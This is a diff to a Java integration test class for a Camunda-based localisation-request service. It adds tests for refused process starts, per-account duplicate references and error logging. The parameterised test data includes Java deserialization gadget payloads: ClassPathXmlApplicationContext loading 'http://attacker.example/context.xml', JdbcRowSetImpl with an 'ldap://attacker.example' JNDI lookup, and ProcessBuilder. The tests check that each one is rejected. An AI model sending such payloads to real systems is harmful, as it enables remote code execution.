@@ -1,6 +1,7 @@
 package ru.mos.localisation;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
@@ -19,25 +20,35 @@ import java.util.HashMap;
 import java.util.Locale;
 import java.util.Map;
 import java.util.UUID;
+import java.util.stream.Stream;
 import org.camunda.bpm.engine.HistoryService;
 import org.camunda.bpm.engine.IdentityService;
+import org.camunda.bpm.engine.ProcessEngine;
 import org.camunda.bpm.engine.ManagementService;
+import org.camunda.bpm.engine.MismatchingMessageCorrelationException;
 import org.camunda.bpm.engine.RepositoryService;
 import org.camunda.bpm.engine.TaskService;
 import org.camunda.bpm.engine.identity.User;
+import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
 import org.camunda.bpm.engine.runtime.Job;
 import org.camunda.bpm.engine.task.Task;
 import org.camunda.bpm.model.bpmn.Bpmn;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.boot.test.system.CapturedOutput;
+import org.springframework.boot.test.system.OutputCaptureExtension;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.jdbc.core.simple.JdbcClient;
 import org.springframework.test.annotation.DirtiesContext;
 import org.springframework.test.context.ActiveProfiles;
 import ru.mos.localisation.process.ProcessVariables;
+import ru.mos.localisation.request.InvalidInputException;
 
 /**
  * Camunda's REST API as a client sees it over HTTP: who gets in, how a start through
@@ -82,6 +93,7 @@ class EngineRestTests {
   private final TaskService taskService;
   private final IdentityService identityService;
   private final RepositoryService repositoryService;
+  private final ProcessEngine processEngine;
 
   @Autowired
   EngineRestTests(
@@ -92,7 +104,8 @@ class EngineRestTests {
       ManagementService managementService,
       TaskService taskService,
       IdentityService identityService,
-      RepositoryService repositoryService) {
+      RepositoryService repositoryService,
+      ProcessEngine processEngine) {
     this.baseUrl = "http://localhost:" + port;
     this.objectMapper = objectMapper;
     this.jdbc = jdbc;
@@ -101,6 +114,7 @@ class EngineRestTests {
     this.taskService = taskService;
     this.identityService = identityService;
     this.repositoryService = repositoryService;
+    this.processEngine = processEngine;
   }
 
   // --- authentication -----------------------------------------------------------------------
@@ -245,6 +259,64 @@ class EngineRestTests {
     assertThat(processInstanceCount()).isEqualTo(instancesBefore);
   }
 
+  /**
+   * A foreign Java type in every serialization format a client may name, with a valid request or
+   * junk, and the error type: our validation's, or Camunda's own for a value it cannot store.
+   */
+  static Stream<Arguments> foreignObjectVariables() {
+    String context = "org.springframework.context.support.ClassPathXmlApplicationContext";
+    String json = "application/json";
+    String validation = "InvalidInputException";
+    String unstorable = "InvalidRequestException";
+    return Stream.of(
+        Arguments.of(context, json, TestRequests.recyclingPlantJson(newReference()), validation),
+        Arguments.of(context, json, "\"http://attacker.example/context.xml\"", validation),
+        Arguments.of("com.sun.rowset.JdbcRowSetImpl", json, "{\"dataSourceName\": \"ldap://attacker.example/x\", \"autoCommit\": true}", validation),
+        Arguments.of("java.lang.ProcessBuilder", json, "{}", validation),
+        Arguments.of("ru.mos.localisation.NoSuchType", json, TestRequests.recyclingPlantJson(newReference()), validation),
+        Arguments.of("java.util.HashMap", json, TestRequests.recyclingPlantJson(newReference()), validation),
+        // the request record's own type, but not from the investor API
+        Arguments.of("ru.mos.localisation.intake.NewLocalisationRequest", json, TestRequests.recyclingPlantJson(newReference()), validation),
+        // a format without a serializer is stored as given, and refused unread by registration
+        Arguments.of(context, "application/xml", "<x/>", validation),
+        Arguments.of(context, "text/plain", TestRequests.recyclingPlantJson(newReference()), validation),
+        Arguments.of(context, null, TestRequests.recyclingPlantJson(newReference()), unstorable),
+        Arguments.of(null, json, TestRequests.recyclingPlantJson(newReference()), unstorable));
+  }
+
+  @ParameterizedTest(name = "[{index}] {0} as {1}")
+  @MethodSource("foreignObjectVariables")
+  void startWithAnObjectVariableOfAForeignJavaTypeIsABadRequestAndCreatesNothing(
+      String objectTypeName, String format, String value, String errorType) throws Exception {
+    ObjectNode body = objectMapper.createObjectNode();
+    ObjectNode request = body.putObject("variables").putObject(ProcessVariables.REQUEST);
+    request.put("type", "Object");
+    request.put("value", value);
+    ObjectNode info = request.putObject("valueInfo");
+    if (objectTypeName != null) {
+      info.put("objectTypeName", objectTypeName);
+    }
+    if (format != null) {
+      info.put("serializationDataFormat", format);
+    }
+    long instancesBefore = processInstanceCount();
+    long rowsBefore = registryRowCountAll();
+
+    HttpResponse<String> response = start(ADMIN, body);
+
+    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
+    assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
+    JsonNode error = json(response);
+    assertThat(error.path("type").asText()).as(response.body()).isEqualTo(errorType);
+    assertThat(error.path("message").asText()).isNotBlank();
+    if (errorType.equals("InvalidInputException")) {
+      assertThat(error.path("message").asText()).contains("request: must be a Json variable");
+    }
+    assertThat(response.body()).doesNotContain("\tat ");
+    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
+    assertThat(registryRowCountAll()).isEqualTo(rowsBefore);
+  }
+
   @Test
   void startWithAMalformedJsonStringIsABadRequest() throws Exception {
     long instancesBefore = processInstanceCount();
@@ -269,7 +341,25 @@ class EngineRestTests {
   }
 
   @Test
-  void startWithTheSameExternalReferenceFromTheSameInvestorAgainIsAConflict() throws Exception {
+  void anOfficialsStartIsNeitherBlockedByNorAnsweredWithAnotherAccountsReference() throws Exception {
+    // given an investor filed a reference over the investor API
+    String ref = newReference();
+    HttpResponse<String> filed = post("/api/v1/localisation-requests", INVESTOR, objectMapper.readTree(TestRequests.recyclingPlantJson(ref)));
+    assertThat(filed.statusCode()).as(filed.body()).isEqualTo(201);
+    long instancesBefore = processInstanceCount();
+
+    // when an official registers a request with the same reference (gathered at a fair)
+    HttpResponse<String> started = start(ADMIN, requestVariable("Json", TestRequests.recyclingPlantJson(ref)));
+
+    // then it is the official's own request: the investor's reference neither blocks nor shows
+    assertThat(started.statusCode()).as(started.body()).isEqualTo(200);
+    assertThat(json(started).path("businessKey").asText()).isNotEqualTo(json(filed).path("number").asText());
+    assertThat(processInstanceCount()).isEqualTo(instancesBefore + 1);
+    assertThat(registryRowCount(ref)).isEqualTo(2);
+  }
+
+  @Test
+  void startWithTheSameExternalReferenceFromTheSameAccountAgainIsAConflict() throws Exception {
     String ref = newReference();
     ObjectNode body = requestVariable("Json", TestRequests.recyclingPlantJson(ref));
     HttpResponse<String> first = start(ADMIN, body);
@@ -296,6 +386,43 @@ class EngineRestTests {
     assertThat(json(response).path("message").asText()).contains("No matching process definition");
     assertThat(registryRowCount(ref)).isZero();
     assertThat(processInstanceCount()).isEqualTo(instancesBefore);
+  }
+
+  // --- logging -------------------------------------------------------------------------------
+
+  @Test
+  @ExtendWith(OutputCaptureExtension.class)
+  void refusedStartsLogNoErrorAndNoStackTrace(CapturedOutput output) throws Exception {
+    ObjectNode body = requestVariable("Json", TestRequests.recyclingPlantJson(newReference()));
+    assertThat(start(ADMIN, body).statusCode()).isEqualTo(200);
+    int logStart = output.getOut().length();
+
+    // a duplicate, invalid fields, an Object variable
+    assertThat(start(ADMIN, body).statusCode()).isEqualTo(409);
+    assertThat(start(ADMIN, requestVariable("Json", TestRequests.recyclingPlantJson(newReference()).replace("\"hazardClass\": 3", "\"hazardClass\": 9"))).statusCode())
+        .isEqualTo(400);
+    assertThat(start(ADMIN, requestVariable("Object", "{}")).statusCode()).isEqualTo(400);
+
+    String logged = output.getOut().substring(logStart);
+    assertThat(logged).doesNotContain(" ERROR ", "ENGINE-16004", "\tat ");
+    assertThat(logged.lines().filter(line -> line.contains("Refused a second request"))).hasSize(1);
+  }
+
+  @Test
+  @ExtendWith(OutputCaptureExtension.class)
+  void aRealFailureInAnEngineCommandIsStillLoggedAsAnErrorARefusalIsNot(CapturedOutput output) {
+    var commands = ((ProcessEngineConfigurationImpl) processEngine.getProcessEngineConfiguration()).getCommandExecutorTxRequired();
+
+    assertThatThrownBy(() -> commands.execute(context -> { throw new IllegalStateException("disk full"); }))
+        .hasMessage("disk full");
+    assertThatThrownBy(() -> commands.execute(context -> { throw InvalidInputException.of("request", "is wrong"); }))
+        .isInstanceOf(InvalidInputException.class);
+    assertThatThrownBy(() -> commands.execute(context -> { throw new MismatchingMessageCorrelationException("RequestWithdrawn"); }))
+        .isInstanceOf(MismatchingMessageCorrelationException.class);
+
+    assertThat(output.getOut().lines().filter(line -> line.contains(" ERROR ") && line.contains("ENGINE-16004")))
+        .hasSize(1)
+        .allMatch(line -> line.contains("disk full"));
   }
 
   // --- officials' decisions ------------------------------------------------------------------
@@ -537,6 +664,10 @@ class EngineRestTests {
         .param(externalReference)
         .query(Long.class)
         .single();
+  }
+
+  private long registryRowCountAll() {
+    return jdbc.sql("SELECT COUNT(*) FROM localisation_request").query(Long.class).single();
   }
 
   private Map<String, Object> registryRow(String externalReference) {
